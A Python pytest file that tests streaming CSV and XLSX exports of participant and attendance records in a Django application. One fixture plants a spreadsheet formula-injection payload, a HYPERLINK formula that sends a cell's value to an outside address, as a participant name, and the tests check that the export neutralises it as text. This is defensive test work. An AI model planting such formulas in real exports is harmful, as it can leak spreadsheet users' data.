"""The small version of bench/export_stream.py (issue 16, item 3): a few thousand people through the real export view.

The benchmark streams 1,000,000 people as CSV and 100,000 as XLSX under gunicorn; here the same
view, on PostgreSQL, must stream every row the admin may see, exactly once, with the cells the
people hold, in files that open (openpyxl). Never timed: speed is measured in bench/.
"""

import csv
import datetime as dt
import io
import random

import pytest
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from participants.models import AttendanceStatus, Participant, ParticipantKind, Sector
from tests.factories import AttendanceFactory, CityFactory, ParticipantFactory, TrainingSessionFactory
from umkm_program.spreadsheets import csv_cell
from users.models import Role

pytestmark = pytest.mark.django_db

PEOPLE = 3000
CSV_URL = "/participants/export/participants.csv"
XLSX_URL = "/participants/export/participants.xlsx"


@pytest.fixture
def crowd():
    """PEOPLE exportable people in two cities, one with a hostile name, plus a merged and an erased record the export skips."""
    kupang = CityFactory(name="Kupang", time_zone="Asia/Makassar")
    ambon = CityFactory(name="Ambon", time_zone="Asia/Jayapura")
    people = ParticipantFactory.build_batch(PEOPLE, city=kupang, sector=Sector.FOOD)
    for i, person in enumerate(people):
        if i % 3 == 0:
            person.city = ambon
            person.kind, person.business_name, person.agency = ParticipantKind.PEMDA, "", f"Dinas Kominfo {i}"
        person.whatsapp_opt_in = i % 2 == 0
    people[7].full_name = '=HYPERLINK("http://x?"&C2,"klik")'
    Participant.objects.bulk_create(people, batch_size=1000)
    ParticipantFactory(city=kupang, full_name="Gabungan Lama", merged_into=Participant.objects.order_by("pk").first())
    ParticipantFactory(city=kupang, full_name="Sudah Dihapus", erased_at=timezone.now())
    return list(
        Participant.objects.filter(merged_into__isnull=True, erased_at__isnull=True).select_related("city").order_by("pk")
    )


@pytest.fixture
def admin(client, make_user):
    client.force_login(make_user(Role.PROGRAMME_ADMIN))  # the export is in Indonesian, the default language
    return client


def _expected(person) -> list:
    with translation.override("id"):
        return _cells(person)


def _cells(person) -> list:
    return [
        person.pk,
        person.full_name,
        person.phone,
        person.email,
        person.get_gender_display(),
        person.city.name,
        person.get_kind_display(),
        person.business_name,
        person.agency,
        person.get_sector_display(),
        person.get_scale_display(),
        person.nib,
        person.get_baseline_social_media_display(),
        person.consent_version,
        gettext("yes") if person.whatsapp_opt_in else gettext("no"),
        gettext("yes") if person.is_test else gettext("no"),
    ]


def test_every_person_is_streamed_once_as_csv_with_their_cells(admin, crowd):
    response = admin.get(CSV_URL)
    pieces = list(response.streaming_content)
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))

    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert pieces[0].decode("utf-8-sig").count("\n") == 1  # the header leaves before any row is read
    assert len(pieces) > 2  # and the rows follow in pieces, not as one body
    header, body = rows[0], rows[1:]
    assert body[7][1] == "'" + crowd[7].full_name  # a name that is a formula is text
    with translation.override("id"):
        assert header[:3] == [gettext("id"), gettext("full name"), gettext("phone")] and len(header) == 16
    assert [int(r[0]) for r in body] == [p.pk for p in crowd]  # all of them, once, in order
    for person in random.Random(16).sample(crowd, 50) + [crowd[7]]:
        row = body[crowd.index(person)]
        assert row == [str(csv_cell(v)) for v in _expected(person)]  # a phone +62... reads as text: '+62...
    assert "Gabungan Lama" not in {r[1] for r in body} and "Sudah Dihapus" not in {r[1] for r in body}


def test_the_xlsx_opens_and_holds_the_same_cells_as_the_csv(admin, crowd):
    response = admin.get(XLSX_URL)
    body = b"".join(response.streaming_content)
    csv_rows = list(csv.reader(io.StringIO(b"".join(admin.get(CSV_URL).streaming_content).decode("utf-8-sig"))))

    assert response.streaming and body[:2] == b"PK"
    sheet = load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
    cells = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert cells[0] == csv_rows[0]
    assert len(cells) == PEOPLE + 1 == len(csv_rows)
    assert [row[0] for row in cells[1:]] == [p.pk for p in crowd]  # ids stay numbers
    for person in random.Random(17).sample(crowd, 50):
        row = cells[1 + crowd.index(person)]
        assert [v if v is not None else "" for v in row] == _expected(person)
    hostile = cells[1 + 7][1]
    assert hostile == crowd[7].full_name  # text in XLSX, never a formula (tests/core/test_safe_exports.py checks the style)


def test_attendance_streams_with_local_times_and_zone_labels(admin):
    session = TrainingSessionFactory(city__name="Jayapura", city__time_zone="Asia/Jayapura")
    AttendanceFactory.create_batch(
        40, session=session, status=AttendanceStatus.ATTENDED, checked_in_at=session.starts_at + dt.timedelta(minutes=5)
    )

    csv_rows = list(
        csv.reader(io.StringIO(b"".join(admin.get("/participants/export/attendance.csv").streaming_content).decode("utf-8-sig")))
    )
    sheet = load_workbook(io.BytesIO(b"".join(admin.get("/participants/export/attendance.xlsx").streaming_content))).worksheets[0]
    xlsx_rows = [[str(csv_cell(v)) for v in row] for row in sheet.iter_rows(values_only=True)]

    local_start = session.starts_at.astimezone(dt.timezone(dt.timedelta(hours=9)))  # WIT is UTC+9
    assert len(csv_rows) == 41
    assert {r[3] for r in csv_rows[1:]} == {f"{local_start:%Y-%m-%d %H:%M} WIT"}
    assert {r[9] for r in csv_rows[1:]} == {f"{local_start + dt.timedelta(minutes=5):%Y-%m-%d %H:%M} WIT"}
    assert xlsx_rows == csv_rows
